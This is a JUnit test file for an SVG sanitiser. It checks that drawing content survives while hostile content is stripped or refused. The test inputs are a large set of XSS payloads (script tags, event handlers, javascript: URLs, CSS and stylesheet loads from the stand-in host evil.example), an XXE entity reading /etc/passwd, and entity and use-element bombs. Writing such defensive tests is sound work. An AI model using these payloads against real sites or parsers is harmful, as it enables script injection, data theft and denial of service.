package dev.atelier.core.image;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import dev.atelier.core.fault.FaultException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Locale;
import java.util.stream.Stream;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What is left of an SVG. */
class SvgTest {
    private static final String DRAWN = "<rect width='9' height='9' fill='red'/>";

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<script xlink:href='//evil.example/x.js'/>",
                "<script type='text/ecmascript'><![CDATA[alert(1)]]></script>",
                "<s:script xmlns:s='http://www.w3.org/2000/svg'>alert(1)</s:script>",
                "<h:script xmlns:h='http://www.w3.org/1999/xhtml'>alert(1)</h:script>",
                "<g onload='alert(1)'/>",
                "<g ONCLICK='alert(1)'/>",
                "<g on\u0131nput='alert(1)'/>",
                "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><iframe src='//evil.example'/></body>"
                        + "</foreignObject>",
                "<a xlink:href='javascript:alert(1)'><rect/></a>",
                "<a href='https://evil.example'><rect/></a>",
                "<use xlink:href='https://evil.example/x.svg#a'/>",
                "<use href='data:image/svg+xml;base64,PHN2Zz4='/>",
                "<image href='https://evil.example/track.png'/>",
                "<image href='//evil.example/track.png'/>",
                "<image xlink:href='data:image/svg+xml,&lt;svg onload=alert(1)>'/>",
                "<image href='data:text/html;base64,PHNjcmlwdD4='/>",
                "<image href='jav&#x09;ascript:alert(1)'/>",
                "<feImage href='https://evil.example/track.png'/>",
                "<rect fill='url(https://evil.example/#a)'/>",
                "<rect fill=\"url('//evil.example/#a')\"/>",
                "<rect filter='u\\72l(https://evil.example)'/>",
                "<rect style='fill:url(https://evil.example/#a)'/>",
                "<rect style='background:url(https://evil.example/a)'/>",
                "<rect style='fill:red;-moz-binding:url(//evil.example)'/>",
                "<rect style='width:expression(alert(1))'/>",
                "<rect style='fill:image-set(\"//evil.example\" 1x)'/>",
                "<rect style='fill:u/**/rl(//evil.example)'/>",
                "<style>@import url(//evil.example/a.css);</style>",
                "<style>@import '//evil.example/a.css'; rect{fill:red}</style>",
                "<style>@font-face{font-family:x;src:url(//evil.example/f)}</style>",
                "<style>rect{fill:url(//evil.example/#a)}</style>",
                "<style>rect{background-image:url(//evil.example)}</style>",
                "<style>rect{f\\69ll:u\\72l(//evil.example)}</style>",
                "<style>&lt;/style>&lt;script>alert(1)&lt;/script></style>",
                "<style><script>alert(1)</script></style>",
                "<set attributeName='onmouseover' to='alert(1)'/>",
                "<set attributeName='href' to='javascript:alert(1)'/>",
                "<animate attributeName='xlink:href' values='javascript:alert(1)'/>",
                "<animate attributeName='href' to='//evil.example'/>",
                "<animate attributeName='style' to='fill:url(//evil.example)'/>",
                "<animate attributeName='fill' to='url(//evil.example)'/>",
                "<animateTransform attributeName='onclick' to='alert(1)'/>",
                "<handler type='text/javascript'>alert(1)</handler>",
                "<iframe src='//evil.example'/>",
                "<audio src='//evil.example'/>",
                "<metadata><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script></metadata>",
                "<?xml-stylesheet href='//evil.example/x.css'?>",
                "<g xml:base='//evil.example/'/>",
                "<!-- <script>alert(1)</script> evil.example -->",
            })
    @DisplayName("B12 nothing in an SVG runs, loads, or leads away, and what only draws is still there")
    void harmless(String hostile) {
        String clean = clean(DRAWN + hostile);

        assertThat(clean.toLowerCase(Locale.ROOT))
                .contains("<rect width=\"9\" height=\"9\" fill=\"red\"></rect>")
                .doesNotContain(
                        "script",
                        "alert",
                        "evil.example",
                        "foreignobject",
                        "iframe",
                        "import",
                        "onload",
                        "<a ",
                        "<a>",
                        "\\",
                        "expression",
                        "binding",
                        "onclick",
                        "text/html",
                        "svg+xml");
    }

    static Stream<Arguments> drawings() {
        return Stream.of(
                arguments("text", "<text x='1'>a &lt; b &amp; c</text>", ">a &lt; b &amp; c</text>"),
                arguments(
                        "a gradient",
                        "<linearGradient id='g'><stop offset='0' stop-color='red'/></linearGradient>"
                                + "<rect fill='url(#g)'/>",
                        "fill=\"url(#g)\""),
                arguments("use", "<g id='a'/><use xlink:href='#a'/>", "<use href=\"#a\">"),
                arguments("a style", "<rect style='fill: red; stroke : #00f'/>", "style=\"fill:red;stroke:#00f\""),
                arguments(
                        "a style sheet",
                        "<style>.a, g > rect{fill:#f00;stroke:url(#g)}</style>",
                        ".a, g &gt; rect{fill:#f00;stroke:url(#g)}"),
                arguments(
                        "what stands behind an @-rule",
                        "<style>@media print{.a{fill:red}} .b{fill:blue}</style>",
                        ".b{fill:blue}"),
                arguments("pixels", "<image href='data:image/png;base64,iVBORw0KGgo='/>", "data:image/png;base64,"),
                arguments(
                        "a link's drawing",
                        "<a href='//evil.example'><circle r='3'/></a>",
                        "<g><circle r=\"3\"></circle></g>"),
                arguments(
                        "movement",
                        "<rect><animate attributeName='x' from='0' to='9' dur='1s'/></rect>",
                        "attributeName=\"x\""),
                arguments("a filter", "<filter id='f'><feGaussianBlur stdDeviation='2'/></filter>", "stdDeviation"),
                arguments("a path", "<path d='M0 0 C 1,1 2,2 3,3 Z' transform='rotate(45)'/>", "rotate(45)"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("drawings")
    @DisplayName("B12 what only draws stays")
    void drawn(String what, String inside, String left) {
        assertThat(clean(inside)).contains(left);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><svg xmlns='http://www.w3.org/2000/svg'>"
                        + "<text>&a;</text></svg>",
                "<!DOCTYPE svg [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'>]>"
                        + "<svg xmlns='http://www.w3.org/2000/svg'><text>&b;</text></svg>",
            })
    @DisplayName("B12 entities are refused, not resolved")
    void entities(String hostile) {
        FaultException fault = catchThrowableOfType(
                FaultException.class, () -> ImageCheck.of(hostile.getBytes(StandardCharsets.UTF_8)));

        assertThat(fault.fault().code()).isIn("unsafe_svg", "broken_image");
    }

    @Test
    @DisplayName("B12 a document type from outside is not fetched and does no harm")
    void document_type() {
        String drawn = "<?xml version='1.0'?><!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN'"
                + " 'http://127.0.0.1:1/svg11.dtd'><svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 8 4'/>";

        CheckedImage image = ImageCheck.of(drawn.getBytes(StandardCharsets.UTF_8));

        assertThat(new String(image.content(), StandardCharsets.UTF_8)).doesNotContain("DOCTYPE");
        assertThat(image.width()).isEqualTo(8);
        assertThat(image.height()).isEqualTo(4);
    }

    @ParameterizedTest
    @ValueSource(strings = {"UTF-8", "UTF-16", "UTF-16LE", "UTF-16BE", "ISO-8859-1", "windows-1252"})
    @DisplayName("B12 an SVG may be in any encoding in use, and comes out in UTF-8")
    void encodings(String encoding) throws Exception {
        String drawn = "<?xml version='1.0' encoding='" + encoding + "'?>"
                + "<svg xmlns='http://www.w3.org/2000/svg'><text>Größe</text><script/></svg>";

        CheckedImage image = ImageCheck.of(drawn.getBytes(Charset.forName(encoding)));

        assertThat(new String(image.content(), StandardCharsets.UTF_8))
                .contains(">Größe</text>")
                .doesNotContain("script");
    }

    @Test
    @DisplayName("B12 a few lines that stand for billions of shapes are refused")
    void bomb() {
        StringBuilder svg = new StringBuilder("<g id='a0'><rect/></g>");
        for (int i = 1; i < 30; i++) {
            svg.append("<g id='a%d'><use href='#a%d'/><use href='#a%d'/></g>".formatted(i, i - 1, i - 1));
        }

        assertThat(codeOf(svg.toString())).isEqualTo("unsafe_svg");
    }

    @Test
    @DisplayName("B12 what is nested or chained without end is refused, and what refers to itself is not drawn")
    void nested() {
        StringBuilder chain = new StringBuilder();
        for (int i = 0; i < 50_000; i++) {
            chain.append("<use id='c%d' href='#c%d'/>".formatted(i, i + 1));
        }

        assertThat(codeOf("<g>".repeat(150) + "</g>".repeat(150))).isEqualTo("unsafe_svg");
        assertThat(codeOf("<g>".repeat(50_000) + "</g>".repeat(50_000))).isIn("unsafe_svg", "broken_image");
        assertThat(codeOf(chain.toString())).isEqualTo("unsafe_svg");
        assertThat(clean("<g id='a'><use href='#a'/></g>")).contains("#a");
    }

    @Test
    @DisplayName("B12 megabytes of one attribute or style sheet are looked through in no time to speak of")
    void long_values() {
        String letters = "a".repeat(3_000_000);

        assertThat(clean("<rect fill='" + letters + "'/>")).doesNotContain("aaaa");
        assertThat(clean("<style>" + letters + "</style>")).doesNotContain("aaaa");
        assertThat(clean("<style>" + "a{".repeat(1_000_000) + "</style>")).doesNotContain("a{");
        assertThat(clean("<image href='data:image/png;base64," + letters + "!'/>"))
                .doesNotContain("aaaa");
    }

    private static String clean(String inside) {
        return new String(ImageCheck.of(Samples.svg(inside)).content(), StandardCharsets.UTF_8);
    }

    private static String codeOf(String inside) {
        return catchThrowableOfType(FaultException.class, () -> ImageCheck.of(Samples.svg(inside)))
                .fault()
                .code();
    }
}
